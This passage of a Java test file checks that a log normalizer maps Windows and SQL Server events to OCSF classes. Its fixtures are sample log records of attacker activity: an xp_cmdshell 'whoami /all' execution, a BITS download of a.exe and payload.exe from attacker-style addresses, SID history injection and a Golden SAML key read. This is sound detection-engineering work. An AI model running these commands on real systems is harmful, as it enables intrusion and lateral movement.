                 "Message":"Login failed for user 'sa'. Reason: Password did not match that for the login provided. [CLIENT: 10.0.2.17]"}""");
        JsonNode winlogbeat = normalize("""
                {"@timestamp":"2026-02-28T23:35:07.524Z","message":"Login failed for user 'sa'. Reason: Password did not match that for the login provided. [CLIENT: 10.0.2.17]",
                 "winlog":{"channel":"Application","event_id":18456,"computer_name":"SQL01","provider_name":"MSSQLSERVER",
                 "event_data":{"param1":"sa","param2":" Reason: Password did not match that for the login provided.","param3":" [CLIENT: 10.0.2.17]"}}}""");
        for (JsonNode r : List.of(evtx, nxlog, winlogbeat)) {
            assertClass(r, 3002, 1, "Logon");
            assertThat(r.get("status_id").asInt()).isEqualTo(2);
            assertThat(r.at("/user/name").asText()).isEqualTo("sa");
            assertThat(r.at("/src_endpoint/ip").asText()).isEqualTo("10.0.2.17");
            assertThat(r.get("status_detail").asText())
                    .isEqualTo("Password did not match that for the login provided.");
            assertThat(r.at("/service/name").asText()).isEqualTo("MSSQLSERVER");
        }

        JsonNode succeeded = normalize(evtx(
                "Application",
                18454,
                "{\"Data\":{\"#text\":\"<string>root</string>\\n<string> [CLIENT: 10.0.2.17]</string>\"}}"));
        assertClass(succeeded, 3002, 1, "Logon");
        assertThat(succeeded.get("status_id").asInt()).isEqualTo(1);
        assertThat(succeeded.at("/user/name").asText()).isEqualTo("root");
        assertThat(succeeded.at("/src_endpoint/ip").asText()).isEqualTo("10.0.2.17");
        // a login from the server itself names no address
        JsonNode local = normalize("""
                {"Channel":"Application","EventID":18453,"SourceName":"MSSQL$SQLEXPRESS",
                 "Message":"Login succeeded for user 'CORP\\\\svc-backup'. Connection made using Windows authentication. [CLIENT: <local machine>]"}""");
        assertThat(local.at("/user/name").asText()).isEqualTo("CORP\\svc-backup");
        assertThat(local.has("src_endpoint")).isFalse();
        assertThat(local.at("/service/name").asText()).isEqualTo("MSSQL$SQLEXPRESS");
    }

    /** A SQL Server Audit record (33205) as evtx_dump writes it: the audit's lines in one data string. */
    private static String sqlAudit(String action, boolean succeeded, String login, String statement) {
        String text = String.join(
                "\\n",
                "audit_schema_version:1",
                "event_time:2026-02-28 23:40:12.1840021",
                "sequence_number:1",
                "action_id:" + action + "  ",
                "succeeded:" + succeeded,
                "is_column_permission:false",
                "session_id:61",
                "server_principal_id:271",
                "class_type:X ",
                "client_ip:10.20.30.44",
                "session_server_principal_name:" + login,
                "server_principal_name:" + login,
                "database_principal_name:dbo",
                "target_server_principal_name:",
                "server_instance_name:SQL01",
                "database_name:payroll",
                "schema_name:sys",
                "object_name:xp_cmdshell",
                "statement:" + statement,
                "additional_information:",
                "application_name:Microsoft SQL Server Management Studio - Query");
        return """
                {"Event":{"System":{"Provider":{"#attributes":{"Name":"MSSQLSERVER"}},"EventID":{"#attributes":{"Qualifiers":"16384"},"#text":33205},
                 "TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T23:40:12.194410Z"}},"Channel":"Application",
                 "Computer":"SQL01.example.corp"},"EventData":{"Binary":null,"Data":{"#text":"<string>%s\\n</string>"}}}}""".formatted(text);
    }

    @Test
    void sqlServerAuditRecordsAreDatastoreActivityAndItsLoginsAuthentications() throws Exception {
        JsonNode shell = normalize(sqlAudit("EX", true, "app_svc", "EXEC master..xp_cmdshell 'whoami /all'"));
        assertClass(shell, 6005, 99, "Other");
        assertThat(shell.get("status_id").asInt()).isEqualTo(1);
        assertThat(shell.at("/actor/user/name").asText()).isEqualTo("app_svc");
        assertThat(shell.at("/src_endpoint/ip").asText()).isEqualTo("10.20.30.44");
        assertThat(shell.at("/database/name").asText()).isEqualTo("payroll");
        assertThat(shell.at("/query_info/query_string").asText()).isEqualTo("EXEC master..xp_cmdshell 'whoami /all'");
        assertThat(shell.at("/unmapped/sqlObject").asText()).isEqualTo("xp_cmdshell");

        JsonNode read = normalize(sqlAudit("SL", true, "report_ro", "SELECT * FROM dbo.salaries"));
        assertClass(read, 6005, 4, "Query");
        JsonNode dropped = normalize(sqlAudit("DR", false, "app_svc", "DROP TABLE dbo.salaries"));
        assertClass(dropped, 6005, 7, "Delete");
        assertThat(dropped.get("status_id").asInt()).isEqualTo(2);

        JsonNode login = normalize(sqlAudit("LGIF", false, "sa", ""));
        assertClass(login, 3002, 1, "Logon");
        assertThat(login.get("status_id").asInt()).isEqualTo(2);
        assertThat(login.at("/user/name").asText()).isEqualTo("sa");
        assertThat(login.at("/src_endpoint/ip").asText()).isEqualTo("10.20.30.44");
        assertThat(normalize(sqlAudit("LGIS", true, "sa", "")).get("status_id").asInt())
                .isEqualTo(1);

        // another program's 33205 in the Application log is none of these
        JsonNode other =
                normalize(evtx("Application", 33205, "{\"Data\":{\"#text\":\"<string>cache flushed</string>\"}}"));
        assertThat(other.get("class_uid").asInt()).isZero();
    }

    @Test
    void sqlServerConfigurationChangesAndRefusedProceduresAreApiActivity() throws Exception {
        JsonNode evtx = normalize("""
                {"Event":{"System":{"Provider":{"#attributes":{"Name":"MSSQLSERVER"}},"EventID":{"#attributes":{"Qualifiers":"16384"},"#text":15457},
                 "TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T23:39:02.524202Z"}},"Channel":"Application",
                 "Computer":"SQL01.example.corp"},"EventData":{"Binary":"YTwAAA==","Data":{"#text":
                 "<string>xp_cmdshell</string>\\n<string>0</string>\\n<string>1</string>"}}}}""");
        JsonNode nxlog = normalize("""
                {"EventTime":"2026-02-28 23:39:02","Hostname":"SQL01","SourceName":"MSSQLSERVER","Channel":"Application","EventID":15457,
                 "Message":"Configuration option 'xp_cmdshell' changed from 0 to 1. Run the RECONFIGURE statement to install."}""");
        for (JsonNode r : List.of(evtx, nxlog)) {
            assertClass(r, 6003, 3, "Update");
            assertThat(r.at("/api/operation").asText()).isEqualTo("sp_configure");
            assertThat(r.at("/resources/0/name").asText()).isEqualTo("xp_cmdshell");
            assertThat(r.at("/api/service/name").asText()).isEqualTo("MSSQLSERVER");
        }
        JsonNode refused = normalize("""
                {"EventTime":"2026-02-28 23:38:40","Hostname":"SQL01","SourceName":"MSSQL$SQLEXPRESS","Channel":"Application","EventID":15281,
                 "Message":"SQL Server blocked access to procedure 'sys.xp_cmdshell' of component 'xp_cmdshell' because this component is turned off as part of the security configuration for this server."}""");
        assertClass(refused, 6003, 99, "Other");
        assertThat(refused.get("status_id").asInt()).isEqualTo(2);
        assertThat(refused.at("/api/operation").asText()).isEqualTo("sys.xp_cmdshell");
        assertThat(refused.at("/resources/0/name").asText()).isEqualTo("xp_cmdshell");
        // the same event ids of another program are not SQL Server's
        assertThat(normalize("""
                {"Channel":"Application","EventID":15457,"SourceName":"BackupAgent","Message":"Job 12 finished."}""").get("class_uid").asInt()).isZero();
    }

    @Test
    void bitsJobsAreScheduledJobsAndTheirTransfersHttpActivityWithTheUrlInParts() throws Exception {
        String bits = "Microsoft-Windows-Bits-Client/Operational";
        // as evtx_dump writes them (the corpus's evtx-attack-samples), and as NXLog flattens them
        JsonNode created = normalize(evtx(bits, 3, """
                {"jobTitle":"Download LockScreen Image","jobId":"FF819706-9FF9-490B-ADE5-B069232C5D23",
                 "jobOwner":"MSEDGEWIN10\\\\IEUser","processPath":"C:\\\\Windows\\\\System32\\\\desktopimgdownldr.exe","processId":1996}"""));
        assertClass(created, 1006, 1, "Create");
        assertThat(created.at("/job/name").asText()).isEqualTo("Download LockScreen Image");
        assertThat(created.at("/actor/process/file/path").asText())
                .isEqualTo("C:\\Windows\\System32\\desktopimgdownldr.exe");
        assertThat(created.at("/actor/process/pid").asInt()).isEqualTo(1996);
        assertThat(created.at("/actor/user/name").asText()).isEqualTo("MSEDGEWIN10\\IEUser");

        JsonNode done = normalize("""
                {"Channel":"%s","EventID":4,"Hostname":"PC01","jobTitle":"Download LockScreen Image","jobOwner":"MSEDGEWIN10\\\\IEUser",
                 "fileCount":1,"bytesTransferred":162791}""".formatted(bits));
        assertClass(done, 1006, 99, "Other");
        assertThat(done.get("status_id").asInt()).isEqualTo(1);

        JsonNode started = normalize(evtx(bits, 59, """
                {"transferId":"FCC284DB-AA62-40BB-B372-B5BA6A5AD840","name":"Download LockScreen Image",
                 "url":"https://a.uguu.se:8443/Hv0bgvgHGNeH_Bin.7z?x=1","peer":"","fileLength":162791,"bytesTransferred":0}"""));
        assertClass(started, 4002, 99, "Other");
        assertThat(started.at("/http_request/url/url_string").asText())
                .isEqualTo("https://a.uguu.se:8443/Hv0bgvgHGNeH_Bin.7z?x=1");
        assertThat(started.at("/http_request/url/hostname").asText()).isEqualTo("a.uguu.se");
        assertThat(started.at("/http_request/url/path").asText()).isEqualTo("/Hv0bgvgHGNeH_Bin.7z");
        assertThat(started.at("/http_request/url/query_string").asText()).isEqualTo("x=1");
        assertThat(started.at("/dst_endpoint/hostname").asText()).isEqualTo("a.uguu.se");
        assertThat(started.at("/dst_endpoint/port").asInt()).isEqualTo(8443);
        assertThat(started.at("/device/hostname").asText()).isEqualTo("PC01.example.corp");

        JsonNode stopped = normalize(evtx(bits, 60, """
                {"url":"http://10.0.0.5/payload.exe","hr":0,"bytesTransferred":162791}"""));
        assertClass(stopped, 4002, 99, "Other");
        assertThat(stopped.get("status_id").asInt())
                .as("hr 0: the transfer succeeded")
                .isEqualTo(1);
        assertThat(stopped.at("/traffic/bytes_in").asLong()).isEqualTo(162791);
        JsonNode failed = normalize(evtx(bits, 61, "{\"url\":\"http://10.0.0.5/x\",\"hr\":2147954407}"));
        assertThat(failed.has("status_id")).isFalse();
        assertThat(failed.get("status_code").asText()).isEqualTo("2147954407");

        // a copy from a file share or a local path is no HTTP activity: BITS reads the source file
        JsonNode share = normalize(evtx(bits, 59, "{\"url\":\"\\\\\\\\fs01\\\\share\\\\a.exe\"}"));
        assertClass(share, 1001, 2, "Read");
        assertThat(share.at("/file/path").asText()).isEqualTo("\\\\fs01\\share\\a.exe");
        assertThat(share.has("http_request")).isFalse();
        JsonNode local = normalize(evtx(bits, 60, """
                {"name":"updater","url":"C:\\\\Windows\\\\system32\\\\cmd.exe","hr":0,"fileLength":302592,"bytesTransferred":302592}"""));
        assertClass(local, 1001, 2, "Read");
        assertThat(local.at("/file/path").asText()).isEqualTo("C:\\Windows\\system32\\cmd.exe");
        assertThat(local.at("/file/size").asLong()).isEqualTo(302592);
        assertThat(local.get("status_id").asInt()).isEqualTo(1);
    }

    @Test
    void filesAddedToBitsJobsAreHttpActivityWithTheUrlTheLocalFileAndTheClient() throws Exception {
        String bits = "Microsoft-Windows-Bits-Client/Operational";
        // as a Windows 11 host writes it for an updater's job (the detection wiki's evtx-baseline example)
        JsonNode updater = normalize(evtx(bits, 16403, """
                {"User":"WINDEV2310EVAL\\\\User","jobTitle":"Chrome Component Updater","jobId":"9A25D168-24E6-4C66-AC78-5ED0E6007F1A",
                 "jobOwner":"WINDEV2310EVAL\\\\User","fileCount":1,
                 "RemoteName":"http://edgedl.me.gvt1.com/edgedl/release2/chrome_component/oimompecagnajdejgnnjijobebaeigek_4.10.2710.0_win64.crx3",
                 "LocalName":"C:\\\\Users\\\\User\\\\AppData\\\\Local\\\\Temp\\\\chrome_BITS_2208_583787314\\\\oimompecagnajdejgnnjijobebaeigek_4.10.2710.0_win64.crx3",
                 "processId":2208,"ClientProcessStartKey":3659174697241209}"""));
        assertClass(updater, 4002, 99, "Other");
        assertThat(updater.at("/http_request/url/hostname").asText()).isEqualTo("edgedl.me.gvt1.com");
        assertThat(updater.at("/dst_endpoint/hostname").asText()).isEqualTo("edgedl.me.gvt1.com");
        assertThat(updater.at("/actor/process/pid").asInt()).isEqualTo(2208);
        assertThat(updater.at("/actor/user/name").asText()).isEqualTo("WINDEV2310EVAL\\User");
        assertThat(updater.at("/file/path").asText())
                .startsWith("C:\\Users\\User\\AppData\\Local\\Temp\\chrome_BITS_2208_");
        // bitsadmin /transfer from an address to a public folder, as the attacks SigmaHQ's 16403 rules look for
        JsonNode dropper = normalize("""
                {"Channel":"%s","EventID":16403,"Hostname":"PC01","User":"CORP\\\\kim","jobTitle":"myjob",
                 "jobOwner":"CORP\\\\kim","fileCount":1,"RemoteName":"https://198.51.100.7:8443/a.exe?id=1",
                 "LocalName":"C:\\\\Users\\\\Public\\\\a.exe","processId":4120}""".formatted(bits));
        assertClass(dropper, 4002, 99, "Other");
        assertThat(dropper.at("/http_request/url/url_string").asText())
                .isEqualTo("https://198.51.100.7:8443/a.exe?id=1");
        assertThat(dropper.at("/http_request/url/path").asText()).isEqualTo("/a.exe");
        assertThat(dropper.at("/http_request/url/query_string").asText()).isEqualTo("id=1");
        assertThat(dropper.at("/dst_endpoint/port").asInt()).isEqualTo(8443);
        assertThat(dropper.at("/file/path").asText()).isEqualTo("C:\\Users\\Public\\a.exe");
        assertThat(dropper.at("/unmapped/RemoteName").asText()).isEqualTo("https://198.51.100.7:8443/a.exe?id=1");

        // a file from a share is no HTTP activity, and event 16403 of another log is not BITS'
        JsonNode share = normalize(evtx(bits, 16403, """
                {"RemoteName":"\\\\\\\\fs01\\\\share\\\\a.exe","LocalName":"C:\\\\Temp\\\\a.exe","processId":1}"""));
        assertThat(share.get("class_uid").asInt()).isNotEqualTo(4002);
        assertThat(share.has("http_request")).isFalse();
        JsonNode other = normalize("""
                {"Channel":"Application","EventID":16403,"RemoteName":"http://198.51.100.7/a.exe"}""");
        assertThat(other.get("class_uid").asInt()).isNotEqualTo(4002);
    }

    @Test
    void firewallExceptionRulesAddedModifiedOrDeletedAreConfigStateChanges() throws Exception {
        String rule = """
                {"ProfileChanged":"All","RuleId":"{3f2504e0-4f89-41d3-9a0c-0305e82c3301}","RuleName":"Allow inbound 4444"}""";
        JsonNode added = normalize(evtx("Security", 4946, rule));
        assertClass(added, 5019, 1, "Log");
        assertThat(added.at("/state_id").asInt()).isEqualTo(99);
        assertThat(added.at("/state").asText()).isEqualTo("Firewall rule added");
        assertThat(added.at("/policy/name").asText()).isEqualTo("Allow inbound 4444");
        assertThat(added.at("/policy/uid").asText()).isEqualTo("{3f2504e0-4f89-41d3-9a0c-0305e82c3301}");
        assertThat(added.at("/device/hostname").asText()).isEqualTo("PC01.example.corp");
        assertThat(normalize(evtx("Security", 4947, rule)).at("/state").asText())
                .isEqualTo("Firewall rule modified");
        assertThat(normalize(evtx("Security", 4948, rule)).at("/state").asText())
                .isEqualTo("Firewall rule deleted");
    }

    @Test
    void computerAccountsSidHistoryDsrmPasswordsAndWinRmLogonsReachTheirClasses() throws Exception {
        String machine = """
                {"TargetUserName":"SRV-NEW$","TargetDomainName":"EXAMPLE","TargetSid":"S-1-5-21-1004336348-1177238915-682003330-3101",
                 "SubjectUserName":"jdoe","SubjectDomainName":"EXAMPLE","SamAccountName":"SRV-NEW$","DnsHostName":"srv-new.example.com"}""";
        JsonNode created = normalize(evtx("Security", 4741, machine));
        assertClass(created, 3001, 1, "Create");
        assertThat(created.at("/user/name").asText()).isEqualTo("SRV-NEW$");
        assertThat(created.at("/user/uid").asText()).isEqualTo("S-1-5-21-1004336348-1177238915-682003330-3101");
        assertThat(created.at("/user/type").asText()).isEqualTo("Computer");
        assertThat(created.at("/actor/user/name").asText()).isEqualTo("jdoe");
        assertClass(normalize(evtx("Security", 4742, machine)), 3001, 99, "Other");
        assertClass(normalize(evtx("Security", 4743, machine)), 3001, 6, "Delete");

        JsonNode sidHistory = normalize(evtx("Security", 4765, """
                {"SourceUserName":"EXAMPLE\\\\Domain Admins","SourceSid":"S-1-5-21-1004336348-1177238915-682003330-512",
                 "TargetUserName":"jdoe","TargetDomainName":"EXAMPLE","TargetSid":"S-1-5-21-1004336348-1177238915-682003330-1104",
                 "SubjectUserName":"Administrator","SubjectDomainName":"EXAMPLE"}"""));
        assertClass(sidHistory, 3001, 99, "Other");
        assertThat(sidHistory.at("/user/name").asText()).isEqualTo("jdoe");
        assertThat(sidHistory.at("/status_id").asInt()).isEqualTo(1);
        assertThat(sidHistory.at("/unmapped/Event/EventData/SourceSid").asText())
                .endsWith("-512");
        assertThat(normalize(evtx("Security", 4766, "{\"TargetUserName\":\"jdoe\"}"))
                        .at("/status_id")
                        .asInt())
                .isEqualTo(2);

        JsonNode dsrm = normalize(evtx("Security", 4794, """
                {"SubjectUserName":"Administrator","SubjectDomainName":"EXAMPLE","Workstation":"DC01","Status":"0x0"}"""));
        assertClass(dsrm, 3001, 4, "Password Reset");
        assertThat(dsrm.at("/user/type_id").asInt()).isEqualTo(2);
        assertThat(dsrm.at("/status_id").asInt()).isEqualTo(1);
        assertThat(dsrm.at("/actor/user/name").asText()).isEqualTo("Administrator");

        JsonNode winrm = normalize("""
                {"Event":{"System":{"EventID":169,"TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T10:01:02.5Z"}},
                 "Channel":"Microsoft-Windows-WinRM/Operational","Computer":"SRV01.example.com"},
                 "EventData":{"username":"EXAMPLE\\\\jdoe","authenticationMechanism":"Kerberos"}}}""");
        assertClass(winrm, 3002, 1, "Logon");
        assertThat(winrm.at("/user/name").asText()).isEqualTo("EXAMPLE\\jdoe");
        assertThat(winrm.at("/auth_protocol").asText()).isEqualTo("Kerberos");
        assertThat(winrm.at("/service/name").asText()).isEqualTo("WinRM");
        assertThat(winrm.at("/dst_endpoint/hostname").asText()).isEqualTo("SRV01.example.com");
        assertThat(winrm.at("/status_id").asInt()).isEqualTo(1);
    }

    @Test
    void keyFileReadsAreFileSystemActivityOfTheKeyFile() throws Exception {
        // an AD FS token-signing key read from its key file (a Golden SAML attack reads it too)
        JsonNode read = normalize("""
                {"Channel":"Security","EventID":5058,"Hostname":"ADFS01.example.com","TimeCreated":"2026-02-28T04:07:34.160Z",
                 "SubjectUserSid":"S-1-5-21-1004336348-1177238915-682003330-1105","SubjectUserName":"svc-adfs","SubjectDomainName":"EXAMPLE",
                 "SubjectLogonId":"0x2d14f","ClientProcessId":"3388","ProviderName":"Microsoft Software Key Storage Provider",
                 "AlgorithmName":"UNKNOWN","KeyName":"tp-0c1d2e3f-4a5b-6c7d-8e9f-0a1b2c3d4e5f","KeyType":"%%2499",
                 "KeyFilePath":"C:\\\\ProgramData\\\\Microsoft\\\\Crypto\\\\RSA\\\\MachineKeys\\\\0a1b2c3d_4e5f","Operation":"%%2458","ReturnCode":"0x0"}""");
        assertClass(read, 1001, 2, "Read");
        assertThat(read.at("/file/path").asText())
                .isEqualTo("C:\\ProgramData\\Microsoft\\Crypto\\RSA\\MachineKeys\\0a1b2c3d_4e5f");
        assertThat(read.at("/actor/user/name").asText()).isEqualTo("svc-adfs");
        assertThat(read.at("/actor/process/pid").asInt()).isEqualTo(3388);
        assertThat(read.at("/status_id").asInt()).isEqualTo(1);
        assertThat(read.at("/unmapped/KeyName").asText()).isEqualTo("tp-0c1d2e3f-4a5b-6c7d-8e9f-0a1b2c3d4e5f");
        JsonNode deleted = normalize(evtx("Security", 5058, """
                {"KeyFilePath":"C:\\\\Users\\\\jdoe\\\\AppData\\\\Roaming\\\\Microsoft\\\\Crypto\\\\Keys\\\\9f8e","Operation":"%%2460","ReturnCode":"0x80090016"}"""));
        assertClass(deleted, 1001, 4, "Delete");
        assertThat(deleted.has("status_id")).isFalse();
        // cryptographic operations on a key (5061) name no file: Entity Management of the key, no File System Activity
        assertThat(normalize(evtx(
                                "Security",
                                5061,
                                "{\"KeyName\":\"k\",\"Operation\":\"%%2480\",\"ReturnCode\":\"0x0\"}"))
                        .get("class_uid")
                        .asInt())
                .isEqualTo(3004);
    }

    @Test
    void sharesAddedOrRemovedAuditPolicyChangesAndProcessTamperingReachTheirClasses() throws Exception {
        JsonNode added = normalize(evtx("Security", 5142, """
                {"SubjectUserSid":"S-1-5-21-1-2-3-500","SubjectUserName":"Administrator","SubjectDomainName":"CORP",
                 "SubjectLogonId":"0x3a1b2c","ShareName":"\\\\\\\\*\\\\Finance","ShareLocalPath":"D:\\\\Shares\\\\Finance",
                 "ShareComment":"quarterly reports"}"""));
        assertClass(added, 3004, 1, "Create");
        assertThat(added.at("/entity/name").asText()).isEqualTo("\\\\*\\Finance");
        assertThat(added.at("/entity/type").asText()).isEqualTo("Network share");
        assertThat(added.at("/unmapped/Event/EventData/ShareLocalPath").asText())
                .isEqualTo("D:\\Shares\\Finance");
        assertThat(added.get("comment").asText()).isEqualTo("quarterly reports");
        assertThat(added.at("/actor/user/name").asText()).isEqualTo("Administrator");
        assertClass(normalize(evtx("Security", 5143, "{\"ShareName\":\"Finance\"}")), 3004, 3, "Update");
        JsonNode deleted = normalize(evtx("Security", 5144, """
                {"SubjectUserName":"Administrator","ShareName":"\\\\\\\\*\\\\Finance","ShareLocalPath":"D:\\\\Shares\\\\Finance"}"""));
        assertClass(deleted, 3004, 4, "Delete");
        assertThat(deleted.at("/entity/name").asText()).isEqualTo("\\\\*\\Finance");

        // auditing of logon failures switched off: the trail an attacker would leave is gone
        JsonNode removed = normalize(evtx("Security", 4719, """
                {"SubjectUserSid":"S-1-5-21-1-2-3-500","SubjectUserName":"Administrator","SubjectDomainName":"CORP",
                 "SubjectLogonId":"0x3a1b2c","CategoryId":"%%8274","SubcategoryId":"%%12544",
                 "SubcategoryGuid":"{0CCE9215-69AE-11D9-BED3-505054503030}","AuditPolicyChanges":"%%8450"}"""));
        assertClass(removed, 5019, 1, "Log");
        assertThat(removed.get("severity_id").asInt()).isEqualTo(3);
        assertThat(removed.get("state").asText()).isEqualTo("Audit policy changed");
        assertThat(removed.at("/policy/name").asText()).isEqualTo("{0CCE9215-69AE-11D9-BED3-505054503030}");
        assertThat(removed.get("status_detail").asText()).isEqualTo("%%8450");
        assertThat(removed.at("/actor/user/name").asText()).isEqualTo("Administrator");
        JsonNode addedAuditing = normalize("""
                {"Channel":"Security","EventID":4719,"Hostname":"DC01.example.com","SubjectUserName":"DC01$",
                 "SubcategoryGuid":"{0CCE9242-69AE-11D9-BED3-505054503030}","AuditPolicyChanges":"Success added"}""");
        assertClass(addedAuditing, 5019, 1, "Log");
        assertThat(addedAuditing.get("severity_id").asInt()).isEqualTo(1);
        assertThat(addedAuditing.get("status_detail").asText()).isEqualTo("Success added");

        JsonNode tampered = normalize(evtx("Microsoft-Windows-Sysmon/Operational", 25, """
                {"RuleName":"-","UtcTime":"2026-02-28 21:02:53.207","ProcessGuid":"{8f3c1a2b-0c1d-6116-5a0b-1d0000000000}",
                 "ProcessId":"4312","Image":"C:\\\\Users\\\\Public\\\\svchost.exe","Type":"Image is replaced","User":"CORP\\\\alice"}"""));
        assertClass(tampered, 1007, 99, "Other");
        assertThat(tampered.at("/process/file/path").asText()).isEqualTo("C:\\Users\\Public\\svchost.exe");
        assertThat(tampered.at("/process/pid").asInt()).isEqualTo(4312);
        assertThat(tampered.get("status_detail").asText()).isEqualTo("Image is replaced");
        assertThat(tampered.at("/actor/user/name").asText()).isEqualTo("CORP\\alice");
    }

    @Test
    void otherEventsOfTheSameChannelsKeepTheirClassOrStayBaseEvents() throws Exception {
        // a handle closed names no object: nothing to map it to
        assertThat(normalize(evtx("Security", 4658, """
                {"SubjectUserName":"Administrator","ObjectServer":"Security Account Manager","HandleId":"0xc9774b43b0",
                 "ProcessId":"0x1f0","ProcessName":"C:\\\\Windows\\\\System32\\\\lsass.exe"}""")).get("class_uid").asInt())
                .isZero();
        // a handle to a service object is no registry, file or process activity: a process dealing with the Service
        // Control Manager
        assertThat(normalize("""
                {"Channel":"Security","EventID":4656,"ObjectType":"SERVICE OBJECT","ObjectName":"WinDefend",
                 "ProcessName":"C:\\\\Windows\\\\System32\\\\services.exe"}""").get("class_uid").asInt()).isEqualTo(201004);
        // the existing Security and Sysmon classes are unchanged
        assertClass(
                normalize(evtx("Security", 4624, "{\"TargetUserName\":\"bob\",\"LogonType\":3}")), 3002, 1, "Logon");
        assertClass(
                normalize(evtx("Microsoft-Windows-Sysmon/Operational", 1, "{\"Image\":\"C:\\\\a.exe\"}")),
                1007,
                1,
                "Launch");
        // Sysmon's service state and configuration are the sensor's (Device Config State Change, as Defender's),
        // its errors (255) stay Base Events
        for (int id : List.of(4, 16)) {
            assertThat(normalize(evtx("Microsoft-Windows-Sysmon/Operational", id, "{\"State\":\"Started\"}"))
                            .get("class_uid")
                            .asInt())
                    .as("Sysmon %d", id)
                    .isEqualTo(5019);
        }
        assertThat(normalize(evtx("Microsoft-Windows-Sysmon/Operational", 255, "{\"ID\":\"DriverCommunication\"}"))
                        .get("class_uid")
                        .asInt())
                .isZero();
        // other System and PowerShell events stay Base Events
        assertThat(normalize("{\"Channel\":\"System\",\"EventID\":7001,\"param1\":\"Windows Update\"}")
                        .get("class_uid")
                        .asInt())
                .isZero();
        assertThat(normalize(
                                "{\"Channel\":\"Windows PowerShell\",\"EventID\":500,\"Message\":\"Command \\\"Get-Date\\\" is Started.\"}")
                        .get("class_uid")
                        .asInt())
                .isZero();
        // 4104 of another channel is not a script block
        assertThat(normalize("{\"Channel\":\"Application\",\"EventID\":4104,\"ScriptBlockText\":\"x\"}")
                        .get("class_uid")
                        .asInt())
                .isZero();
    }

    @Test
    void credentialReadsWmiProvidersAndIseScriptsReachTheirClasses() throws Exception {
        // Credential Manager credentials read: the stored credential is the managed entity
        JsonNode read = normalize("""
                {"Channel":"Security","EventID":5379,"Hostname":"PC01.example.com","TimeCreated":"2026-02-28T09:12:01.104Z",
                 "SubjectUserSid":"S-1-5-21-1004336348-1177238915-682003330-1104","SubjectUserName":"jdoe","SubjectDomainName":"EXAMPLE",
                 "SubjectLogonId":"0x4a21c","TargetName":"Domain:target=fs01.example.com","Type":"2","CountOfCredentialsReturned":"1",
                 "ReadOperation":"%%8099","ReturnCode":"0","ClientProcessId":"4312"}""");
        assertClass(read, 3004, 2, "Read");
        assertThat(read.at("/entity/name").asText()).isEqualTo("Domain:target=fs01.example.com");
        assertThat(read.at("/entity/type").asText()).isEqualTo("Credential Manager credential");
        assertThat(read.at("/actor/user/name").asText()).isEqualTo("jdoe");
        assertThat(read.at("/actor/process/pid").asInt()).isEqualTo(4312);
        assertThat(read.at("/status_id").asInt()).isEqualTo(1);
        JsonNode notFound = normalize("""
                {"Channel":"Security","EventID":5379,"SubjectUserName":"jdoe","TargetName":"MicrosoftAccount:user=jdoe@example.com",
                 "ReadOperation":"%%8100","ReturnCode":"3221226021","ClientProcessId":"988"}""");
        assertClass(notFound, 3004, 2, "Read");
        assertThat(notFound.at("/status_id").asInt()).isEqualTo(2);

        // a WMI provider loaded into its host process, from the rendered message
        JsonNode provider = normalize("""
                {"Channel":"Microsoft-Windows-WMI-Activity/Operational","EventID":5857,"Hostname":"PC01.example.com",
                 "EventTime":"2026-02-28 09:14:22","AccountName":"NETWORK SERVICE",
                 "Message":"Win32_OsBaseline provider started with result code 0x0. HostProcess = wmiprvse.exe; ProcessID = 2216; ProviderPath = C:\\\\ProgramData\\\\odd\\\\baseline.dll"}""");
        assertClass(provider, 1005, 1, "Load");
        assertThat(provider.at("/module/file/path").asText()).isEqualTo("C:\\ProgramData\\odd\\baseline.dll");
        assertThat(provider.at("/module/load_type_id").asInt()).isEqualTo(1);
        assertThat(provider.at("/actor/process/file/name").asText()).isEqualTo("wmiprvse.exe");
        assertThat(provider.at("/actor/process/pid").asInt()).isEqualTo(2216);
        // and from the event's data in the evtx-dump shape
        JsonNode providerData = normalize("""
                {"Event":{"System":{"EventID":5857,"TimeCreated":{"#attributes":{"SystemTime":"2026-02-28T09:14:22.5Z"}},
                 "Channel":"Microsoft-Windows-WMI-Activity/Operational","Computer":"PC01.example.com"},
                 "UserData":{"Operation_StartedOperational":{"ProviderName":"CIMWin32","Code":"0x0","HostProcess":"wmiprvse.exe",
                 "ProcessID":"3104","ProviderPath":"%systemroot%\\\\system32\\\\wbem\\\\cimwin32.dll"}}}}""");
        assertClass(providerData, 1005, 1, "Load");
        assertThat(providerData.at("/module/file/path").asText())
                .isEqualTo("%systemroot%\\system32\\wbem\\cimwin32.dll");
        assertThat(providerData.at("/actor/process/pid").asInt()).isEqualTo(3104);

        // PowerShell ISE ran a script file
        JsonNode ise = normalize("""
                {"Channel":"Microsoft-Windows-PowerShell/Operational","EventID":24577,"Hostname":"PC01.example.com",
                 "Message":"Windows PowerShell ISE has started to run script file C:\\\\Users\\\\jdoe\\\\Desktop\\\\collect.ps1."}""");
        assertClass(ise, 1009, 1, "Execute");
        assertThat(ise.at("/script/file/path").asText()).isEqualTo("C:\\Users\\jdoe\\Desktop\\collect.ps1");
        assertThat(ise.at("/script/type_id").asInt()).isEqualTo(2);

        // a failed WMI query is a failed API call and a script block's invocation its execution
        // (WindowsApplicationSystemAndOperationalLogsMappingsTest); WMI's temporary consumers stay Base Events
        assertThat(normalize("""
                {"Channel":"Microsoft-Windows-WMI-Activity/Operational","EventID":5858,
                 "Message":"Id = {0F80CB90}; ClientMachine = PC01; User = CORP\\\\jdoe; ClientProcessId = 4242; Component = Unknown; Operation = Start IWbemServices::ExecQuery - root\\\\cimv2 : SELECT * FROM Win32_Process; ResultCode = 0x80041032; PossibleCause = Unknown"}""").get("class_uid").asInt()).isEqualTo(6003);
        assertThat(normalize("""
                {"Channel":"Microsoft-Windows-PowerShell/Operational","EventID":4105,"ScriptBlockId":"5e6f8806","RunspaceId":"2df6de6d"}""").get("class_uid").asInt()).isEqualTo(1009);
        assertThat(normalize("""
                {"Channel":"Microsoft-Windows-WMI-Activity/Operational","EventID":5860,
                 "Message":"Namespace = ROOT\\\\CIMV2; NotificationQuery = SELECT * FROM Win32_ProcessStartTrace; OwnerName = S-1-5-18; HostProcessID = 2236;  Query listening to OS process start."}""").get("class_uid").asInt()).isZero();
    }

    /** A Winlogbeat (or Elastic Agent) event of the Security log with the given event_data. */
    private static String winlogbeat(int eventId, String eventData) {
        return """
                {"@timestamp":"2026-02-28T21:14:03.118Z","agent":{"type":"winlogbeat","version":"8.12.0"},
